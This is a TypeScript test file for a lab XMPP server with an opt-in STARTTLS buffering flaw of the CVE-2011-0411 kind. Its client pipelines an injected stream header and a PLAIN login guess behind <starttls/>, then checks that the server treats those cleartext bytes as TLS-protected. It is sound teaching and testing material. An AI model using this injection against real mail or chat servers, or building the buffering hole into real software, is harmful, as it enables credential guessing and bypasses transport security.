import net from "node:net";
import tls from "node:tls";
import { describe, expect, it } from "vitest";
import { encodePlain } from "../lab/core/sasl/plain.js";
import { createServer } from "../victim-server/index.js";
import { HEADER, labFixtures, recorder } from "./helpers.js";

const STARTTLS = "<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>";
/** What mallory pipelines behind alice's <starttls/>: a stream of her own and a login attempt. */
const INJECTED = HEADER + `<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>${encodePlain("alice", "mallory-guess")}</auth>`;

/** Read from a socket until `done(text)` or the bound; never waits on timing for the assertion. */
function readUntil(s: net.Socket, done: (text: string) => boolean, ms = 3000): Promise<string> {
  return new Promise((resolve) => {
    let got = "";
    const finish = () => {
      clearTimeout(timer);
      s.off("data", onData);
      resolve(got);
    };
    const timer = setTimeout(finish, ms);
    const onData = (d: Buffer) => {
      got += d.toString("utf8");
      if (done(got)) finish();
    };
    s.on("data", onData);
    s.once("close", finish);
  });
}

/**
 * A client that writes <starttls/> and the injection in one write (one TCP segment), then does
 * the TLS handshake and sends nothing over TLS: whatever the server says inside TLS answers
 * bytes that crossed in cleartext.
 */
async function inject(bug: boolean) {
  const { pki, accounts } = await labFixtures();
  const rec = recorder();
  const srv = createServer({ tls: "starttls", identity: pki.server, accounts, emit: rec.emit, starttlsBufferingBug: bug });
  const { port } = await srv.start();
  const raw = net.connect(port, "127.0.0.1");
  raw.on("error", () => {});
  await new Promise((r) => raw.once("connect", r));
  raw.write(HEADER);
  await readUntil(raw, (t) => t.includes("</stream:features>"));
  raw.write(STARTTLS + INJECTED);
  const answer = await readUntil(raw, (t) => t.includes("<proceed"));
  let inside = "";
  if (answer.includes("<proceed")) {
    const secure = tls.connect({ socket: raw, servername: "lab.example", ca: [pki.ca.cert] });
    secure.on("error", () => {});
    await new Promise((r) => secure.once("secureConnect", r));
    inside = await readUntil(secure, (t) => t.includes("</failure>") || t.includes("<success"));
    secure.destroy();
  }
  raw.destroy();
  await srv.stop();
  return { answer, inside, events: rec.events };
}

describe("the lab server's STARTTLS buffering bug (CVE-2011-0411 class), off by default", () => {
  it("with the bug, the server answers the injected login inside the TLS session, before the client said anything over it", async () => {
    const r = await inject(true);
    expect(r.answer).toMatch(/<proceed xmlns=["']urn:ietf:params:xml:ns:xmpp-tls["']\/>/);
    // Over TLS: a stream header and features for mallory's header, then the verdict on her login.
    expect(r.inside).toMatch(/^<\?xml version='1.0'\?><stream:stream [^>]*from="lab.example"/);
    expect(r.inside).toContain("<stream:features>");
    expect(r.inside).toMatch(/<failure xmlns="urn:ietf:params:xml:ns:xmpp-sasl"><not-authorized\/><\/failure>/);
    const auth = r.events.find((e) => e.node === "server" && e.kind === "auth");
    expect(auth).toMatchObject({ mechanism: "PLAIN", username: "alice", ok: false, reason: "wrong-password" });
    // The server took the cleartext bytes for TLS-protected ones: its own record of the <auth> says secure.
    const seen = r.events.find((e) => e.node === "server" && e.kind === "stanza" && e.dir === "in" && e.label.includes("auth"));
    expect(seen).toMatchObject({ secure: true });
    expect(r.events.some((e) => e.node === "server" && e.kind === "decision" && e.decision.type === "processes-cleartext-as-tls")).toBe(true);
  });

  it("without it (the default), the pipelined bytes are never processed: no <proceed/>, no login attempt", async () => {
    const r = await inject(false);
    expect(r.answer).not.toContain("<proceed");
    expect(r.inside).toBe("");
    expect(r.events.some((e) => e.node === "server" && e.kind === "auth")).toBe(false);
    expect(r.events.some((e) => e.node === "server" && e.kind === "error" && e.code === "STARTTLS_INJECTION")).toBe(true);
  });
});
